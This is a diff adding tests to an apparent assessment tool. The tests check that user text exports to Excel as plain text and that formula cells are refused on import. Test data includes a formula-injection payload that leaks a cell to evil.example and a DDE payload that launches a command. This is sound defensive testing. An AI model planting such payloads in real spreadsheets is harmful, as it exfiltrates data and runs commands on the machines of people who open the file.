@@ -3,19 +3,25 @@
 from __future__ import annotations
 
 import json
+import zipfile
 from collections.abc import Iterator
 from datetime import date, datetime
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
 import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from migcap.capacity import db
 from migcap.capacity.assessments import create_assessment, get_assessment, history, set_item
 from migcap.capacity.exchange import export_assessment, import_file
 from migcap.capacity.inventory import load_inventory
+from migcap.cli import main
 from migcap.errors import ImportRejected
+from tests.cli import invoke
 
 
 @pytest.fixture()
@@ -226,3 +232,120 @@ def test_check_only(store: Path, tmp_path: Path) -> None:
     report = import_file(path, by="x", dry_run=True)
     assert report.dry_run and report.changed == 6
     assert get_assessment("KEN").entries == {}
+
+
+# ------------------------------------------------------------------------------ user text stays text
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+
+
+def _cells(path: Path, item: str) -> dict[str, Any]:
+    """The evidence, notes and assessor cells of an item's row (openpyxl cells: value and type)."""
+    ws = openpyxl.load_workbook(path)["Assessment"]
+    r = _rows(ws)[item]
+    return {"evidence": ws[f"G{r}"], "notes": ws[f"H{r}"], "assessor": ws[f"I{r}"], "version": ws[f"K{r}"]}
+
+
+def test_evidence_is_written_to_the_workbook_as_text_never_as_a_formula(
+        store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    a = create_assessment("Kenya", by="analyst", label="=cmd|' /C calc'!A0")
+    set_item(a.uid, "CORE-01", level="partial", evidence=EVIL, notes="=1+1", assessor="@SUM(1)", by="x",
+             expected_version=0)
+    out = tmp_path / "cli.xlsx"
+    code, _, err = invoke(main, capsys, "assess", "export", "KEN", "--out", str(out))
+    assert code == 0, err
+    cells = _cells(out, "CORE-01")
+    assert [(cells[k].value, cells[k].data_type) for k in ("evidence", "notes", "assessor")] == [
+        (EVIL, "s"), ("=1+1", "s"), ("@SUM(1)", "s")]
+    assert cells["evidence"].quotePrefix  # Excel keeps it text when the cell is edited
+    assert (cells["version"].value, cells["version"].data_type) == (1, "n")
+    meta = {r[0].value: r[1] for r in openpyxl.load_workbook(out)["_meta"].iter_rows()}
+    assert (meta["assessment.label"].value, meta["assessment.label"].data_type) == ("=cmd|' /C calc'!A0", "s")
+    with zipfile.ZipFile(out) as z:  # no formula anywhere in the file
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)
+
+
+def test_an_exported_workbook_imported_unchanged_changes_nothing(store: Path, tmp_path: Path,
+                                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    a = create_assessment("Kenya", by="analyst")
+    set_item(a.uid, "CORE-01", level="partial", evidence="=1+1", notes=EVIL, by="x", expected_version=0)
+    set_item(a.uid, "CORE-02", level="planned", evidence="-5 % of staff", notes="+ two posts", by="x",
+             expected_version=0)
+    out = tmp_path / "form.xlsx"
+    assert invoke(main, capsys, "assess", "export", "KEN", "--out", str(out))[0] == 0
+    n_history = len(history(a.uid))
+    code, text, err = invoke(main, capsys, "assess", "import", str(out), "--by", "y")
+    assert code == 0 and "changed 0 item(s), 70 unchanged" in text, (text, err)
+    e = get_assessment("KEN").entry("CORE-01")
+    assert (e.evidence, e.notes, e.version) == ("=1+1", EVIL, 1) and len(history(a.uid)) == n_history
+    assert get_assessment("KEN").entry("CORE-02").evidence == "-5 % of staff"
+
+
+def test_line_breaks_typed_in_a_browser_survive_the_workbook(store: Path, tmp_path: Path) -> None:
+    from sqlalchemy import update
+
+    a = create_assessment("Kenya", by="analyst")
+    set_item(a.uid, "CORE-01", level="partial", evidence="one\r\ntwo\rthree", by="x", expected_version=0)
+    assert get_assessment("KEN").entry("CORE-01").evidence == "one\ntwo\nthree"  # stored with line feeds
+    # an entry stored before texts were cleaned still holds "\r\n": the workbook gives "\n" back, no change
+    with db.session_scope(write=True) as s:
+        s.execute(update(db.EntryRow).where(db.EntryRow.item_id == "CORE-01").values(notes="a\r\nb"))
+    path = _export(tmp_path, "KEN")
+    assert import_file(path, by="y").changed == 0
+    assert get_assessment("KEN").entry("CORE-01").notes == "a\r\nb"
+
+
+def test_a_formula_cell_is_refused_naming_its_sheet_row_and_column(store: Path, tmp_path: Path) -> None:
+    a = create_assessment("Kenya", by="analyst")
+    set_item(a.uid, "CORE-01", level="partial", evidence="Census 2019", by="x", expected_version=0)
+    path = _export(tmp_path, "KEN")
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Assessment"]
+    rows = _rows(ws)
+    ws[f"G{rows['CORE-01']}"] = "=1+1"      # as Excel stores what an official types: a formula
+    ws[f"F{rows['CORE-02']}"] = '=IF(1,"partial","absent")'
+    wb["_meta"]["B3"] = "=A1"
+    wb.save(path)
+    with pytest.raises(ImportRejected) as err:
+        import_file(path, by="y")
+    found = {(p.sheet, p.row, p.column, p.value) for p in err.value.problems if "formula" in p.message}
+    assert found == {("Assessment", rows["CORE-01"], "G (evidence)", "=1+1"),
+                     ("Assessment", rows["CORE-02"], "F (level)", '=IF(1,"partial","absent")'),
+                     ("_meta", 3, "B", "=A1")}
+    assert f"sheet 'Assessment', row {rows['CORE-01']}, column 'G (evidence)': a formula" in str(err.value)
+    assert get_assessment("KEN").entry("CORE-01").evidence == "Census 2019"   # nothing emptied or imported
+
+
+# texts a person may type: any printable character, line breaks and tabs inside, often starting like a formula
+_TYPED = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
+                 | st.sampled_from("\n\t"), max_size=60)
+STARTS = st.sampled_from(["=", "+", "-", "@", "'=", "''+", "#N/A"])
+TYPED = st.one_of(_TYPED, st.builds(lambda p, s: p + s, STARTS, _TYPED))
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(evidence=TYPED, notes=TYPED, assessor=TYPED.map(lambda t: t[:200]))
+def test_random_texts_survive_export_and_import(store: Path, tmp_path: Path, evidence: str, notes: str,
+                                                assessor: str) -> None:
+    uid = (create_assessment("Kenya", by="analyst") if not get_assessment_or_none("KEN") else
+           get_assessment("KEN")).uid
+    e = get_assessment(uid).entry("CORE-01")
+    set_item(uid, "CORE-01", level="partial", evidence=evidence or "x", notes=notes, assessor=assessor,
+             by="x", expected_version=e.version)
+    stored = get_assessment(uid).entry("CORE-01")
+    for fmt in ("xlsx", "yaml", "json"):
+        path = tmp_path / f"round.{fmt}"
+        path.write_bytes(export_assessment(uid, fmt))
+        report = import_file(path, by="y")
+        assert report.changed == 0, (fmt, evidence, notes, assessor)
+    assert get_assessment(uid).entry("CORE-01") == stored
+
+
+def get_assessment_or_none(state: str) -> Any:
+    from migcap.errors import MigcapError
+
+    try:
+        return get_assessment(state)
+    except MigcapError:
+        return None
